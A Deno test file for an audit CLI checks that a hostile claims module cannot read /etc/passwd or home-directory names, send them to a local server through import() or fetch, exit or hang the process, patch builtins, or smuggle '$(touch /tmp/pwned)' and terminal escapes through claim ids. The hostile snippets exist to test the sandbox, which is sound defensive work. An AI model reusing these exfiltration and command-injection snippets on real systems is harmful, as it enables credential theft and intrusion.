/**
 * A hostile claims module cannot reach the machine or forge the report. Each test serves a
 * claims module from 127.0.0.1 beside the repository and runs `deno task audit`'s command
 * on it (audit/cli.ts, the task's own permissions). The server records every request, so
 * a test sees what a module tried to send out; benign claims sit in the same module as the
 * hostile ones and must keep their true verdicts.
 */
import { deepStrictEqual, match, ok, strictEqual } from "node:assert/strict";
import { ROOT } from "./_serve.ts";

const decode = (bytes: Uint8Array) => new TextDecoder().decode(bytes);

/** Serves `modules` (path → source) and the repository; records each request's URL. */
async function withServed(
  modules: Record<string, string>,
  body: (origin: string, requested: string[], token: string) => Promise<void>,
): Promise<void> {
  const controller = new AbortController();
  const requested: string[] = [];
  const server = Deno.serve(
    { hostname: "127.0.0.1", port: 0, signal: controller.signal, onListen: () => {} },
    async (request) => {
      const url = new URL(request.url);
      requested.push(decodeURIComponent(url.pathname + url.search));
      const source = modules[url.pathname.replace(/-[0-9a-f]{32}\.ts$/, ".ts")];
      if (source !== undefined) {
        return new Response(source, { headers: { "content-type": "application/typescript" } });
      }
      if (url.pathname.includes("..")) return new Response("bad path", { status: 400 });
      try {
        const file = await Deno.readFile(ROOT + url.pathname.slice(1));
        return new Response(file, { headers: { "content-type": "application/typescript" } });
      } catch {
        return new Response("export {};", {
          headers: { "content-type": "application/typescript" },
        });
      }
    },
  );
  // Deno caches remote modules by URL, and a later run may get the same port: a fresh
  // token in each module's path (the server strips it) keeps one test from reading another's.
  const token = crypto.randomUUID().replaceAll("-", "");
  try {
    await body(`http://127.0.0.1:${server.addr.port}`, requested, token);
  } finally {
    controller.abort();
    await server.finished;
  }
}

/** Runs the audit CLI as `deno task audit` does. */
async function audit(...args: string[]): Promise<{ code: number; out: string; err: string }> {
  const { code, stdout, stderr } = await new Deno.Command(Deno.execPath(), {
    args: [
      "run",
      "--no-lock",
      "--no-prompt",
      "--allow-read=.",
      `--allow-run=${Deno.execPath()}`,
      "audit/cli.ts",
      // These modules probe the confinement on purpose, and some of them do not type-check:
      // the type check (which would refuse to run them) is tested in spec/sheet_test.ts.
      "--no-type-check",
      ...args,
    ],
    cwd: ROOT,
    stdout: "piped",
    stderr: "piped",
  }).output();
  return { code, out: decode(stdout), err: decode(stderr) };
}

/** A claim whose check body is `body`; the benign ones compute 2 + 2 with Math and arrays. */
function claim(id: string, body: string, extra = ""): string {
  return `{ id: ${JSON.stringify(id)}, question: "1", topic: "t", chapter: "activations",
    statement: "s", stated: "4", assumptions: [], ${extra}
    check: (context) => { ${body} } }`;
}

/** Benign claims: each uses what the hostile ones patch (filter, Math.abs, the context). */
const BENIGN = [
  claim(
    "good.agrees",
    `const v = [1, -3, 3].filter((x) => x > 0).reduce((a, b) => a + b, 0);
     return { computed: String(v), verdict: Math.abs(v - 4) < 1e-9 ? "agrees" : "disagrees", reason: "sum" };`,
  ),
  claim(
    "good.disagrees",
    `const v = Math.abs(-5);
     return { computed: String(v), verdict: v === 4 ? "agrees" : "disagrees", reason: "abs" };`,
  ),
  claim(
    "good.seed",
    `return { computed: String(context.seed), verdict: context.seed === 20261128 ? "agrees" : "disagrees", reason: "seed" };`,
  ),
];

/** The module's source: hostile claims between benign ones, and optional top-level code. */
function module(hostile: string[], top = ""): string {
  return `${top}\nexport const document = "hostile";\nexport const claims = [${
    [BENIGN[0], ...hostile, BENIGN[1], BENIGN[2]].join(",\n")
  }];\n`;
}

/** The benign claims' verdicts in a JSON report. */
function benign(report: { claims: { id: string; verdict: string }[] }): Record<string, string> {
  return Object.fromEntries(
    report.claims.filter((c) => c.id.startsWith("good.")).map((c) => [c.id, c.verdict]),
  );
}

const TRUE_VERDICTS = {
  "good.agrees": "agrees",
  "good.disagrees": "disagrees",
  "good.seed": "agrees",
};

/** No request carried a line of /etc/passwd or a name from the home directory. */
async function nothingLeaked(requested: string[]) {
  const passwd = await Deno.readTextFile("/etc/passwd").catch(() => "root:x:0:0");
  const firstLine = passwd.split("\n")[0];
  for (const r of requested) {
    ok(!r.includes(firstLine) && !r.includes("root:x:"), `leaked /etc/passwd: ${r}`);
    ok(
      !r.includes(".bashrc") && !r.includes(".profile") && !r.includes(".cache"),
      `leaked home: ${r}`,
    );
  }
}

Deno.test("reading files and sending them out: nothing reaches the server, the benign claims keep their verdicts", async () => {
  const leak = (what: string) => `import("LEAK/leak?data=" + encodeURIComponent(${what}))`;
  const source = module(
    [
      claim(
        "bad.passwd",
        `const t = Deno.readTextFileSync("/etc/passwd"); ${leak("t")}; return null;`,
      ),
      claim(
        "bad.home",
        `const names = [...Deno.readDirSync(Deno.env.get("HOME") ?? "/root")].map((e) => e.name).join(",");
       ${leak("names")}; return null;`,
      ),
      claim(
        "bad.fetch",
        `fetch("LEAK/leak?fetch=1"); return { computed: "4", verdict: "agrees", reason: "fetch sent" };`,
      ),
    ],
    `let secret = "none";
      try { secret = await Deno.readTextFile("/etc/passwd"); } catch (e) { secret = "denied:" + e.name; }
      await import("LEAK/leak?top=" + encodeURIComponent(secret)).catch(() => {});`,
  );
  await withServed({}, async (origin, requested, _token) => {
    const text = source.replaceAll("LEAK", origin);
    await withServed({ "/hostile.ts": text }, async (origin2, requested2, token2) => {
      const { code, out, err } = await audit(
        "--claims",
        `${origin2}/hostile-${token2}.ts`,
        "--format",
        "json",
      );
      const report = JSON.parse(out);
      deepStrictEqual(benign(report), TRUE_VERDICTS, err);
      const errors = Object.fromEntries(
        report.errors.map((e: { claim: string; message: string }) => [e.claim, e.message]),
      );
      match(
        errors["bad.passwd"],
        /claim bad\.passwd: its check threw: .*(read access|not defined)/,
      );
      match(errors["bad.home"], /claim bad\.home: its check threw/);
      // fetch without --allow-net rejects; the claim's own verdict stands, nothing was sent.
      strictEqual(
        report.claims.find((c: { id: string }) => c.id === "bad.fetch").verdict,
        "agrees",
      );
      strictEqual(code, 2);
      await nothingLeaked([...requested, ...requested2]);
      // The other server (another origin) saw nothing at all: no import, no fetch.
      deepStrictEqual(requested, []);
    });
  });
});

Deno.test("the module's own origin may be imported, but no file content goes with it", async () => {
  const source = module(
    [
      claim(
        "bad.import",
        `import("/leak?x=" + globalThis.Deno?.readTextFileSync?.("/etc/passwd")); return null;`,
      ),
    ],
    `let secret = "none";
      try { secret = Deno.readTextFileSync("/etc/passwd"); } catch (e) { secret = "denied:" + e.name; }
      await import("./leak.ts?top=" + encodeURIComponent(secret));`,
  );
  await withServed({ "/hostile.ts": source }, async (origin, requested, token) => {
    const { code, out, err } = await audit(
      "--claims",
      `${origin}/hostile-${token}.ts`,
      "--format",
      "json",
    );
    const report = JSON.parse(out);
    deepStrictEqual(benign(report), TRUE_VERDICTS, err);
    strictEqual(code, 2);
    match(report.errors[0].message, /^claim bad\.import: /);
    await nothingLeaked(requested);
    // The top-level import did reach the server, carrying only the refusal.
    ok(requested.some((r) => r.startsWith("/leak.ts?top=denied:")), requested.join(" "));
  });
});

Deno.test("exiting, hanging and exhausting memory are errors of their claims; the others go on", async () => {
  const source = module([
    claim("bad.exit", `Deno.exit(0);`),
    claim("bad.process-exit", `globalThis.__p.exit(0); return null;`),
    claim("bad.hang", `for (;;) {}`),
    claim("bad.memory", `const a = []; for (;;) a.push(new Array(1e6).fill(a.length));`),
  ], `import process from "node:process"; globalThis.__p = process;`);
  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
    for (const extra of [[], ["--fail-on-disagree"]]) {
      const { code, out, err } = await audit(
        "--claims",
        `${origin}/hostile-${token}.ts`,
        "--format",
        "json",
        "--timeout",
        "2",
        "--memory",
        "64",
        ...extra,
      );
      const report = JSON.parse(out);
      deepStrictEqual(benign(report), TRUE_VERDICTS, err);
      const errors = Object.fromEntries(
        report.errors.map((e: { claim: string; message: string }) => [e.claim, e.message]),
      );
      match(errors["bad.exit"], /claim bad\.exit: its check threw: Deno is not defined/);
      match(
        errors["bad.process-exit"],
        /claim bad\.process-exit: its check threw: exiting is not available/,
      );
      match(errors["bad.hang"], /claim bad\.hang: its check ran longer than the time limit of 2 s/);
      match(
        errors["bad.memory"],
        /claim bad\.memory: its check ran out of memory \(the heap limit is 64 MB/,
      );
      deepStrictEqual(report.summary, { claims: 3, agrees: 2, disagrees: 1, errors: 4 });
      strictEqual(code, 2);
    }
  });
});

Deno.test("patching builtins or the context cannot change another claim's verdict or the summary", async () => {
  const source = module([
    claim(
      "bad.filter",
      `Array.prototype.filter = function () { return []; };
       return { computed: "4", verdict: "agrees", reason: "patched" };`,
    ),
    claim(
      "bad.abs",
      `Math.abs = () => 0; return { computed: "4", verdict: "agrees", reason: "patched" };`,
    ),
    claim(
      "bad.context",
      `context.seed = 1; return { computed: "4", verdict: "agrees", reason: "mutated" };`,
    ),
    claim(
      "bad.global",
      `globalThis.Math = { abs: () => 0 }; return { computed: "4", verdict: "agrees", reason: "x" };`,
    ),
  ], `try { Object.prototype.polluted = 1; } catch {}`);
  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
    const { code, out, err } = await audit(
      "--claims",
      `${origin}/hostile-${token}.ts`,
      "--format",
      "json",
      "--fail-on-disagree",
    );
    const report = JSON.parse(out);
    deepStrictEqual(benign(report), TRUE_VERDICTS, err);
    deepStrictEqual(
      report.errors.map((e: { claim: string }) => e.claim),
      ["bad.filter", "bad.abs", "bad.context", "bad.global"],
    );
    for (const e of report.errors) match(e.message, /its check threw: Cannot (assign|add)/);
    deepStrictEqual(report.summary, { claims: 3, agrees: 2, disagrees: 1, errors: 4 });
    strictEqual(code, 2);
  });
});

Deno.test("BigInt, cyclic and throwing fields and hostile ids are errors of their claims; output stays clean", async () => {
  const ok4 = `computed: "4", verdict: "agrees", reason: "r"`;
  const source = module([
    claim("bad.bigint", `return { ${ok4}, seed: 10n };`),
    claim(
      "bad.cycle",
      `const c = {}; c.c = c; return { verdict: "agrees", reason: "r", computed: c };`,
    ),
    claim("bad.getter", `return { ${ok4}, get counterexample() { throw new Error("boom"); } };`),
    claim(
      "bad.values",
      `return { computed: "4", verdict: "disagrees", reason: "r", seed: 1,
      counterexample: { values: { x: 1n }, stated: 1, expected: 2 } };`,
    ),
    claim("bad.proxy", `return new Proxy({}, { get() { throw new Error("trap"); } });`),
    claim(
      "x$(touch /tmp/pwned)`id`;\u001b[2J",
      `return { computed: "4\u001b[31m", verdict: "disagrees", reason: "r\u0007", seed: 3,
        counterexample: { values: { x: 1 }, stated: 1, expected: 2 } };`,
    ),
  ]);
  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
    const json = await audit("--claims", `${origin}/hostile-${token}.ts`, "--format", "json");
    const report = JSON.parse(json.out);
    deepStrictEqual(benign(report), TRUE_VERDICTS, json.err);
    const errors = Object.fromEntries(
      report.errors.map((e: { claim: string; field: string }) => [e.claim, e.field]),
    );
    deepStrictEqual(errors, {
      "bad.bigint": "seed",
      "bad.cycle": "computed",
      "bad.getter": "counterexample",
      "bad.values": "counterexample.values.x",
      "bad.proxy": "check",
    }, json.out);
    strictEqual(json.code, 2);
    for (const format of ["text", "markdown"]) {
      const { code, out } = await audit(
        "--claims",
        `${origin}/hostile-${token}.ts`,
        "--format",
        format,
      );
      strictEqual(code, 2);
      ok(
        // deno-lint-ignore no-control-regex
        !/[\u0000-\u0008\u000b-\u001f\u007f]/.test(out),
        `control characters in the ${format} report`,
      );
      match(out, /--replay 'x\$\(touch \/tmp\/pwned\)`id`;\[2J' --seed 3/);
    }
  });
});

Deno.test("frozen builtins still let ordinary code set name or toString on its own objects", async () => {
  // An Error subclass assigns this.name; a plain object gets its own toString. Both would
  // throw on a naively frozen prototype; the prototype itself stays unassignable.
  const source = `
    class MyError extends Error { constructor(m) { super(m); this.name = "MyError"; } }
    const point = { x: 1 };
    point.toString = () => "p";
    const base = { question: "1", topic: "t", chapter: "activations", statement: "s", stated: "1", assumptions: [] };
    export const claims = [
      { ...base, id: "own", check: () => ({ computed: new MyError("m").name + String(point),
        verdict: new MyError("m").name === "MyError" && String(point) === "p" ? "agrees" : "disagrees", reason: "r" }) },
      { ...base, id: "proto", check: () => { Error.prototype.name = "X"; return null; } },
      { ...base, id: "after", check: () => ({ computed: new Error("x").name,
        verdict: new Error("x").name === "Error" ? "agrees" : "disagrees", reason: "r" }) },
    ];`;
  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
    const { out, err } = await audit(
      "--claims",
      `${origin}/hostile-${token}.ts`,
      "--format",
      "json",
    );
    const report = JSON.parse(out);
    deepStrictEqual(report.claims.map((c: { id: string; verdict: string }) => [c.id, c.verdict]), [
      ["own", "agrees"],
      ["after", "agrees"],
    ], err);
    match(
      report.errors[0].message,
      /^claim proto: its check threw: Cannot assign to read only property 'name'/,
    );
  });
});

Deno.test("a claim that floods its output or returns a huge outcome cannot exhaust the CLI", async () => {
  const source = module([
    claim(
      "bad.flood",
      `globalThis.__p.stdout.write("x".repeat(2e7));
      return { computed: "4", verdict: "agrees", reason: "printed" };`,
    ),
    claim(
      "bad.huge",
      `return { computed: "4", verdict: "agrees", reason: "r",
      alternatives: Array.from({ length: 100 }, () => ({ reading: "y".repeat(90000), computed: "c", reproduces: false })) };`,
    ),
  ], `import process from "node:process"; globalThis.__p = process;`);
  await withServed({ "/hostile.ts": source }, async (origin, _requested, token) => {
    const { code, out, err } = await audit(
      "--claims",
      `${origin}/hostile-${token}.ts`,
      "--format",
      "json",
    );
    const report = JSON.parse(out);
    deepStrictEqual(benign(report), TRUE_VERDICTS, err.slice(0, 500));
    strictEqual(report.claims.find((c: { id: string }) => c.id === "bad.flood").verdict, "agrees");
    match(
      report.errors[0].message,
      /^claim bad\.huge: the outcome is \d+ characters of JSON, more than 4000000/,
    );
    strictEqual(code, 2);
  });
});
